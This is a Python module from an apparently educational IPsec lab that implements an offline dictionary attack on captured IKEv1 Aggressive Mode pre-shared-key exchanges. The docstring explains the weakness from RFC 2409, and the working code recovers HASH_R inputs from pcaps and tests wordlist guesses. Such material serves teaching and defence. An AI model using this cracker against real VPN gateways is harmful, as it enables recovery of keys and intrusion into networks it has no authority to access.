"""Offline dictionary attack on a captured Aggressive Mode exchange with a pre-shared key.

Why Aggressive Mode with a PSK is exposed
-----------------------------------------
With pre-shared key authentication (RFC 2409 §5 and §5.4)::

    SKEYID = prf(pre-shared-key, Ni_b | Nr_b)
    HASH_R = prf(SKEYID, g^xr | g^xi | CKY-R | CKY-I | SAi_b | IDir_b)

In Aggressive Mode, message 1 (``HDR, SA, KE, Ni, IDii``) and message 2
(``HDR, SA, KE, Nr, IDir, HASH_R``) travel in clear.  A passive observer therefore
holds *every* input of HASH_R except the pre-shared key — the nonces, both DH
public values, the cookies, the initiator's SA payload body and the responder's
ID payload body — and HASH_R itself.  For each candidate key it computes SKEYID
and HASH_R' and compares: one HMAC pair per guess, no further packet needed, as
fast as the attacker's hardware allows.  Weak (guessable) keys fall quickly.
Worse, an attacker does not even need to sniff: it can send message 1 to a
responder itself and collect message 2 (what ``ike-scan --aggressive`` and
``psk-crack`` do).

Why Main Mode resists the *passive* attacker
--------------------------------------------
In Main Mode the identities and HASH_I/HASH_R are in messages 5 and 6, encrypted
with a key derived from SKEYID_e = prf(SKEYID, SKEYID_a | g^xy | CKY-I | CKY-R | 2)
(RFC 2409 §5, Appendix B).  A guess of the key gives SKEYID, but without the
Diffie-Hellman shared secret g^xy — which an eavesdropper cannot compute from g^xi
and g^xr — it gives neither the encryption key nor a way to check the guess.
(An *active* man-in-the-middle who completes the DH exchange with the initiator
learns g^xy for its own half and can test guesses against message 5, so a weak
PSK is weak in Main Mode too; it just takes more than a capture.)

Usage::

    capture = AggressiveCapture.from_pcap("lab-export/03/run.pcap")   # or .from_events(session.events)
    capture.crack(["123456", "password", "sunshine"])                  # -> "sunshine" or None

The capture is read with the same codec as ``ipseclab decode`` (UDP 500 and
4500, the non-ESP marker stripped); HASH_R' is computed with
:func:`ipseclab.crypto.kdf_v1.skeyid_psk` and the negotiated hash's HMAC
(:func:`ipseclab.crypto.registry.ike_hash`).
"""

from __future__ import annotations

import hmac
import os
from collections.abc import Iterable
from dataclasses import dataclass
from typing import TypeVar

from ipseclab.crypto.kdf_v1 import skeyid_psk
from ipseclab.crypto.registry import HashSpec, ike_hash
from ipseclab.errors import CryptoError, IpsecLabError, ParseError
from ipseclab.trace import Event, MessageEvent
from ipseclab.wire.v1.constants import AuthMethod, ExchangeType, IkeAttribute
from ipseclab.wire.v1.isakmp import (
    HashPayload,
    IDPayload,
    KEPayload,
    Message,
    NoncePayload,
    Payload,
    SAPayload,
)

__all__ = ["AggressiveCapture", "NotAggressiveModeError"]

_P = TypeVar("_P")
_IKE_PORTS = (500, 4500)
_NON_ESP_MARKER = b"\x00\x00\x00\x00"


class NotAggressiveModeError(IpsecLabError, ValueError):
    """The capture holds no complete Aggressive Mode exchange with a pre-shared key."""


def _first(payloads: list[Payload], cls: type[_P]) -> _P | None:
    """The first payload of type ``cls`` in a chain, or None."""
    return next((p for p in payloads if isinstance(p, cls)), None)


def _identity_text(ident: IDPayload | None) -> str:
    if ident is None:
        return ""
    try:
        return str(ident.value)
    except Exception:  # noqa: BLE001 - display only
        return ident.data.hex()


@dataclass(frozen=True)
class AggressiveCapture:
    """The public inputs of HASH_R (RFC 2409 §5), as recovered from Aggressive Mode messages 1 and 2.

    Every field was on the wire in clear; nothing here is secret.  ``sai_b`` and
    ``idir_b`` are payload *bodies* (without the 4-byte generic payload header)
    exactly as sent, ``hash_id`` is the responder's chosen Hash Algorithm
    (RFC 2409 Appendix A).
    """

    icookie: bytes
    rcookie: bytes
    ni_b: bytes
    nr_b: bytes
    gxi: bytes
    gxr: bytes
    sai_b: bytes
    idii_b: bytes
    idir_b: bytes
    hash_r: bytes
    hash_id: int
    initiator_id: str = ""
    responder_id: str = ""

    # -- building from messages -----------------------------------------------------

    @classmethod
    def from_datagrams(cls, datagrams: Iterable[bytes], *, icookie: bytes | None = None) -> AggressiveCapture:
        """From raw ISAKMP messages (UDP payloads without non-ESP marker), in any order.

        ``icookie`` picks one exchange when the capture holds several; by default
        the first Aggressive Mode exchange whose message 2 was captured is used.
        """
        messages: list[Message] = []
        seen: set[bytes] = set()
        for raw in datagrams:
            if raw in seen:  # retransmissions, or the sent and received copy of one message
                continue
            seen.add(raw)
            try:
                messages.append(Message.decode(raw))
            except ParseError:
                continue
        am = [m for m in messages if m.exchange_type == ExchangeType.AGGRESSIVE and not m.is_encrypted]
        if icookie is not None:
            am = [m for m in am if m.icookie == icookie]
        if not am:
            main = [m for m in messages if m.exchange_type == ExchangeType.MAIN]
            if main:
                raise NotAggressiveModeError(
                    f"this capture holds a Main Mode exchange ({len(main)} message(s)), not Aggressive Mode. "
                    "In Main Mode the identities and HASH_I/HASH_R travel in messages 5 and 6, encrypted "
                    "with a key derived from SKEYID_e, which needs the Diffie-Hellman secret g^xy: a passive "
                    "observer cannot compute it, so there is no HASH_R to test key guesses against "
                    "(RFC 2409 §5, Appendix B)."
                )
            raise NotAggressiveModeError("no Aggressive Mode message found in this capture")
        # message 2: the responder's SA, KE and nonce, under both cookies
        replies = [
            m
            for m in am
            if m.rcookie != bytes(8) and _first(m.payloads, SAPayload) and _first(m.payloads, KEPayload)
        ]
        if not replies:
            raise NotAggressiveModeError(
                "the capture has Aggressive Mode message 1 but no message 2 "
                "(did the responder reject the proposal, or was the capture cut short?)"
            )
        reply = replies[0]
        request = next(
            (
                m
                for m in am
                if m.icookie == reply.icookie and m.rcookie == bytes(8) and _first(m.payloads, SAPayload)
            ),
            None,
        )
        if request is None:
            raise NotAggressiveModeError(
                f"Aggressive Mode message 2 for cookie {reply.icookie.hex()} is there, but not message 1: "
                "SAi_b, g^xi and Ni_b are needed too"
            )
        return cls._from_pair(request, reply)

    @classmethod
    def _from_pair(cls, am1: Message, am2: Message) -> AggressiveCapture:
        sa_i, ke_i, n_i, id_i = (
            _first(am1.payloads, SAPayload),
            _first(am1.payloads, KEPayload),
            _first(am1.payloads, NoncePayload),
            _first(am1.payloads, IDPayload),
        )
        sa_r, ke_r, n_r, id_r, h_r = (
            _first(am2.payloads, SAPayload),
            _first(am2.payloads, KEPayload),
            _first(am2.payloads, NoncePayload),
            _first(am2.payloads, IDPayload),
            _first(am2.payloads, HashPayload),
        )
        if sa_r is None or ke_r is None:  # pragma: no cover - message 2 was selected for having both
            raise NotAggressiveModeError("Aggressive Mode message 2 without SA or KE payload")
        chosen = [t for prop in sa_r.proposals for t in prop.transforms]
        if len(chosen) != 1:
            raise NotAggressiveModeError(
                f"the responder's SA payload holds {len(chosen)} transforms; exactly one (the chosen one) was expected"
            )
        transform = chosen[0]
        auth = transform.get(IkeAttribute.AUTHENTICATION_METHOD)
        if auth != AuthMethod.PSK:
            try:
                method = f"{AuthMethod(auth or 0).name} ({auth})"
            except ValueError:
                method = str(auth)
            raise NotAggressiveModeError(
                f"the negotiated authentication method is {method}, not pre-shared key (1): message 2 "
                "carries no PSK-keyed HASH_R, so there is no pre-shared key to guess"
            )
        if sa_i is None or ke_i is None or n_i is None or n_r is None or id_r is None or h_r is None:
            needed = (
                ("SA in message 1", sa_i),
                ("KE in message 1", ke_i),
                ("Ni in message 1", n_i),
                ("Nr in message 2", n_r),
                ("IDir in message 2", id_r),
                ("HASH_R in message 2", h_r),
            )
            missing = ", ".join(name for name, p in needed if p is None)
            raise NotAggressiveModeError(f"incomplete Aggressive Mode exchange: no {missing}")
        hash_id = transform.get(IkeAttribute.HASH_ALGORITHM) or 0
        try:
            ike_hash(hash_id)
        except CryptoError as exc:
            raise NotAggressiveModeError(str(exc)) from None
        return cls(
            icookie=am2.icookie,
            rcookie=am2.rcookie,
            ni_b=n_i.data,
            nr_b=n_r.data,
            gxi=ke_i.data,
            gxr=ke_r.data,
            sai_b=sa_i.wire_body(),
            idii_b=id_i.wire_body() if id_i is not None else b"",
            idir_b=id_r.wire_body(),
            hash_r=h_r.data,
            hash_id=hash_id,
            initiator_id=_identity_text(id_i),
            responder_id=_identity_text(id_r),
        )

    @classmethod
    def from_events(cls, events: Iterable[Event], *, icookie: bytes | None = None) -> AggressiveCapture:
        """From a run's trace (e.g. ``LabSession.events``): its MessageEvents' raw bytes."""
        raws = [e.raw for e in events if isinstance(e, MessageEvent)]
        return cls.from_datagrams(raws, icookie=icookie)

    @classmethod
    def from_pcap(cls, path: str | os.PathLike[str], *, icookie: bytes | None = None) -> AggressiveCapture:
        """From a pcap/pcapng file: UDP 500 and 4500 (non-ESP marker stripped, ESP and keepalives skipped)."""
        from scapy.layers.inet import UDP
        from scapy.utils import PcapReader

        raws: list[bytes] = []
        with PcapReader(str(path)) as reader:
            for pkt in reader:
                udp = pkt.getlayer(UDP)
                if udp is None or not ({udp.sport, udp.dport} & set(_IKE_PORTS)):
                    continue
                data = bytes(udp.payload)
                if 4500 in (udp.sport, udp.dport):
                    if not data.startswith(_NON_ESP_MARKER):
                        continue  # ESP in UDP or a NAT-T keepalive
                    data = data[4:]
                raws.append(data)
        return cls.from_datagrams(raws, icookie=icookie)

    # -- the attack -----------------------------------------------------------------

    @property
    def prf(self) -> HashSpec:
        """The negotiated hash; its HMAC is IKEv1's prf (RFC 2409 §4)."""
        return ike_hash(self.hash_id)

    def hash_r_for(self, psk: bytes) -> bytes:
        """HASH_R as a responder knowing ``psk`` would have computed it (RFC 2409 §5)."""
        skeyid = skeyid_psk(self.prf, psk, self.ni_b, self.nr_b)
        return self.prf.prf(skeyid, self.gxr + self.gxi + self.rcookie + self.icookie + self.sai_b + self.idir_b)

    def matches(self, candidate: str | bytes) -> bool:
        """True when ``candidate`` reproduces the captured HASH_R."""
        psk = candidate.encode("utf-8") if isinstance(candidate, str) else bytes(candidate)
        return hmac.compare_digest(self.hash_r_for(psk), self.hash_r)

    def crack(self, wordlist: Iterable[str | bytes]) -> str | None:
        """Try each candidate key; return the first that reproduces HASH_R, or None.

        Strings are tried as UTF-8 with a trailing newline removed (so an open
        word-list file can be passed directly); bytes are tried as they are and a
        match is returned decoded (``surrogateescape``, so it round-trips).
        """
        for word in wordlist:
            if isinstance(word, str):
                word = word.rstrip("\r\n")
            if self.matches(word):
                return word if isinstance(word, str) else bytes(word).decode("utf-8", "surrogateescape")
        return None

    def describe(self) -> list[str]:
        """What the attacker holds, one line per HASH_R input (all public)."""

        def short(b: bytes) -> str:
            return b.hex() if len(b) <= 16 else f"{b[:8].hex()}…{b[-4:].hex()}"

        return [
            f"CKY-I   {self.icookie.hex()}",
            f"CKY-R   {self.rcookie.hex()}",
            f"Ni_b    {len(self.ni_b):4d} bytes  {short(self.ni_b)}",
            f"Nr_b    {len(self.nr_b):4d} bytes  {short(self.nr_b)}",
            f"g^xi    {len(self.gxi):4d} bytes  {short(self.gxi)}",
            f"g^xr    {len(self.gxr):4d} bytes  {short(self.gxr)}",
            f"SAi_b   {len(self.sai_b):4d} bytes  {short(self.sai_b)}",
            f"IDir_b  {len(self.idir_b):4d} bytes  {short(self.idir_b)}  ({self.responder_id})",
            f"HASH_R  {len(self.hash_r):4d} bytes  {self.hash_r.hex()}  (prf = HMAC-{self.prf.name})",
        ]
